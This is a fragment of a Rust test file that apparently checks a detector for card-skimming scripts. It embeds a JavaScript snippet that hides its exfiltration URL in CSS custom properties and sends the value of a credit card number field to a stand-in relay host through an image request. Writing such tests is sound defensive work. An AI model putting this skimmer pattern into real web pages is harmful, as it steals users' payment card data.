            var tail = getComputedStyle(document.body).getPropertyValue('--tail').replace(/"/g, '');
            var none = getComputedStyle(p).getPropertyValue('content');
            new Image().src = 'https://' + host + tail + '?n=' + none.length + '&c=' + document.querySelector('#cc_number').value;
        "#;
        let obs = observe(src, limits(false), StubPage::default()).unwrap();
        assert!(
            obs.sends
                .iter()
                .any(|s| s.1.starts_with("https://c-relay-example.com/x?n=0&c=")),
            "{:?}",
            obs.sends
        );
    }
}
